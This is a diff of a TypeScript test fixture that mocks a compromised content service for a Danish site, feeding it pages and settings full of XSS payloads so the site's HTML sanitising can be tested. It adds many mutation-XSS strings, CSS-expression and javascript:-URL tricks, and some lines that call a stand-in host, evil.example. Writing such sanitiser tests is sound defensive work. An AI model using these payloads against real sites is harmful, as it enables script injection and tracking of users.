@@ -1,5 +1,4 @@
-import { once } from 'node:events';
-import { createServer } from 'node:http';
+import { type Answerer, type ScriptedUpstream, sendJson, startScriptedUpstream } from './scripted-upstream.ts';
 
 /** What a content service might send that somebody has taken over: each would run script, restyle the page or phone home. */
 export const attacks = [
@@ -43,23 +42,58 @@ export const attacks = [
   '"><img src=x onerror=alert(1)>',
   "'><svg/onload=alert(1)>",
   '<marquee onstart=alert(1)>x</marquee><body onload=alert(1)><isindex onfocus=alert(1)>',
+  '<noscript><style></noscript><img src=x onerror=alert(1)>',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>',
+  '<svg><set attributeName=onmouseover to=alert(1)></set><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>alert(1)</handler></svg>',
+  '<math href="javascript:alert(1)"><mi>klik</mi></math>',
+  '<math><mi xlink:href="data:text/html,<script>alert(1)</script>">klik</mi></math>',
+  '<table><td><math><mtext></table><mglyph><svg><style></math><img onerror=alert(1) src=1>',
+  '<p id="</xmp><img src=x onerror=alert(1)>"><xmp></p>',
+  '<plaintext><img src=x onerror=alert(1)></plaintext>',
+  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
+  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
+  '<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;"></iframe>',
+  '<div style="behavior:url(#x);-moz-binding:url(https://evil.example/x);width:expression(alert(1))">div</div>',
+  '<p style="animation:x 1s" onanimationstart=alert(1) onwebkitanimationend=alert(1)>bevaegelse</p>',
+  '<style>@import "https://evil.example/x.css";</style><style>p{background:url(https://evil.example/p)}</style>',
+  '<a href="javas\ncript:alert(1)" ping="https://evil.example/ping">link</a>',
+  '<p slot="x"><template shadowrootmode=open><script>alert(1)</script><slot></slot></template></p>',
+  '<input type=image src=x onerror=alert(1)><button formaction="javascript:alert(1)" autofocus onfocus=alert(1)>knap</button>',
+  '<img/src/onerror=alert(1)//<img src=x onerror=&#97;lert(1)><IMG SRC=x OnErRoR=alert`1`>',
 ];
 
 const image = { Url: '/media/logo.svg', AltText: '' };
+const day = '2026-01-01T00:00:00Z';
 
-const Global = {
+/** A Global of nothing but words. */
+export const plainGlobal = {
   Header: { Menu: [], BurgerMenu: [] },
   Footer: { Addresses: [], Sitemap: [], CTAs: [] },
   Seo: { Title: 'Projekt Edison', Description: 'Opfind' },
   Tracking: {},
   Dictionaries: {},
-  SoMe: [{ Link: 'https://example.org/', SVG: '<svg viewBox="0 0 1 1" onload="alert(1)"><script>alert(1)</script></svg>', Title: 'So' }],
+  SoMe: [],
   Email: 'edison@skole.example',
   Logos: { Primary: image, Secondary: image },
   ShowMyProfile: true,
   PrivacyPolicyLink: '/privatliv/',
+  MyPageSettings: { ModalInformation: '' },
+};
+
+const hostileGlobal = {
+  ...plainGlobal,
+  SoMe: [{ Link: 'https://example.org/', SVG: '<svg viewBox="0 0 1 1" onload="alert(1)"><script>alert(1)</script></svg>', Title: 'So' }],
   MyPageSettings: { ModalInformation: attacks.join('') },
 };
+
+/** A page of these blocks, as a content service answers it. */
+export function plainPage(path: string, blocks: readonly object[], changes: object = {}) {
+  const frame = { path, title: 'En side', contentType: 'page', publishedAt: day, updatedAt: day, guestAllowed: true, middleware: [] };
+  return { Page: { ...frame, seo: { Title: 'En side', Description: '' }, blocks, ...changes } };
+}
 
 function hostilePage(path: string) {
   const all = attacks.join('');
@@ -68,34 +102,29 @@ function hostilePage(path: string) {
     { ContentType: 'hero', Content: words },
     { ContentType: 'hologram', Content: { Html: all } },
     { ContentType: 'cards', Content: { Cards: [{ ...words, Url: 'javascript:alert(1)' }] } },
-    ...attacks.map((Html) => ({ ContentType: 'richText', Content: { Html, updatedDate: '2026-01-01T00:00:00Z' } })),
+    ...attacks.map((Html) => ({ ContentType: 'richText', Content: { Html, updatedDate: day } })),
+    ...attacks.map((Html) => ({ ContentType: 'richText', Content: { Html, updatedDate: '2019-01-01T00:00:00Z' } })),
     { ContentType: 'richText', Content: { Html: all } },
     { ContentType: 'accordion', Content: { Items: [{ Question: all, Html: all }] } },
     { ContentType: 'quote', Content: words },
-    { ContentType: 'richText', Content: { Html: '<p>Siden lever.</p>', updatedDate: '2026-01-01T00:00:00Z' } },
+    { ContentType: 'richText', Content: { Html: '<p>Siden lever.</p>', updatedDate: day } },
   ];
-  const day = '2026-01-01T00:00:00Z';
-  const frame = { path, title: all, contentType: 'page', publishedAt: day, updatedAt: day, guestAllowed: true, middleware: [] };
-  return { Page: { ...frame, seo: { Title: all, Description: all }, blocks } };
+  return plainPage(path, blocks, { title: all, seo: { Title: all, Description: all } });
+}
+
+/** What a content service asked for a path below `/api/{root}/` answers: Global at the root, else a page. @returns whether the path is one of these. */
+export function answerSite(global: object, page: (path: string) => unknown): (...asked: Parameters<Answerer>) => boolean {
+  return ({ path: asked }, response) => {
+    const [, path] = /^\/api\/projektedison\.dk(\/[^?]*)$/.exec(decodeURI(asked)) ?? [];
+    if (path === undefined) return false;
+    const found = path === '/' ? { date: day, Global: global } : page(path === '/Index' ? '/' : path);
+    sendJson(response, found ?? { problem: 'NOT_FOUND' }, found === undefined ? 404 : 200);
+    return true;
+  };
 }
 
 /** A content service that has been taken over; every path is its one page. */
-export async function startHostileContent(): Promise<AsyncDisposable & { readonly url: string }> {
-  const server = createServer((request, response) => {
-    const path = decodeURI(request.url ?? '/');
-    const page = /^\/api\/[^/]+(\/[^?]+\/)$/.exec(path)?.[1];
-    const body = /^\/api\/[^/]+\/$/.test(path) ? { date: '2026-01-01T00:00:00Z', Global } : page ? hostilePage(page) : undefined;
-    response.writeHead(body ? 200 : 404, { 'content-type': 'application/json' }).end(JSON.stringify(body ?? { problem: 'NOT_FOUND' }));
-  });
-  server.listen(0, '127.0.0.1');
-  await once(server, 'listening');
-  const address = server.address();
-  const port = typeof address === 'object' && address ? address.port : 0;
-  return {
-    url: `http://localhost:${port}`,
-    async [Symbol.asyncDispose]() {
-      server.closeAllConnections();
-      await new Promise((closed) => server.close(closed));
-    },
-  };
+export function startHostileContent(): Promise<ScriptedUpstream> {
+  const site = answerSite(hostileGlobal, hostilePage);
+  return startScriptedUpstream((asked, response) => site(asked, response) || sendJson(response, { problem: 'NOT_FOUND' }, 404));
 }
